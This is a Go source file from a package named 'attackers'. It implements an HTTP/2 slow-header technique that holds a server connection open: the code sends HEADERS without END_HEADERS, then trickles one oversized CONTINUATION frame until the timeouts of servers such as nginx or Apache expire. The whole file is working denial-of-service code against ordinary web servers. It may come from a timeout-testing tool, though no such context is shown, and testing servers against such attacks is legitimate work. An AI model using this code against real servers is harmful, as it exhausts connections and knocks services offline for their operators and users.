package attackers

import (
	"errors"
	"strings"

	"golang.org/x/net/http2"
)

// h2Headers parks a connection inside the header block of a request.
//
//	client                                server
//	  |-- preface, SETTINGS, their ACK ---->|
//	  |-- HEADERS without END_HEADERS ----->|  waits for a CONTINUATION
//	  |.. trickle: one CONTINUATION but 1 ..|
//
// Until END_HEADERS, no frame but CONTINUATION may come on the connection (RFC 9113
// section 6.10). nginx bounds the wait by client_header_timeout, Apache by
// RequestReadTimeout header=. The trickle is one long frame, as servers limit how many
// short ones may come.
func h2Headers() implementation {
	return implementation{reach: func(c *client) error {
		if err := c.negotiateHTTP2(); err != nil {
			return err
		}
		if err := c.openHTTP2(); err != nil {
			return err
		}
		c.step = "send the beginning of the headers"
		text := continuation()
		c.trickle = tricklePattern(c.rw(), text, len(text)-1)
		c.h2.opened = true
		return errors.Join(c.h2.WriteHeaders(http2.HeadersFrameParam{
			StreamID:      h2Stream,
			BlockFragment: h2Block(c.hold.Request, "GET", c.hold.Request.Path, c.hold.Address),
			EndStream:     true,
		}), c.h2.flush())
	}}
}

// continuationFields is how often the field is in the frame: more than 7000 bytes, of
// the 8 KiB that servers allow for a head.
const continuationFields = 65

// continuation is one CONTINUATION frame with the same field over and over. Each is a
// literal that is never indexed (RFC 7541 section 6.2.3), so that none becomes shorter
// than the one before.
func continuation() string {
	const name, value = "x-hold", 100
	field := "\x10" + string(rune(len(name))) + name + string(rune(value)) + strings.Repeat("a", value)
	block := strings.Repeat(field, continuationFields)
	return string([]byte{byte(len(block) >> 16), byte(len(block) >> 8), byte(len(block)),
		byte(http2.FrameContinuation), 0, 0, 0, 0, h2Stream}) + block
}
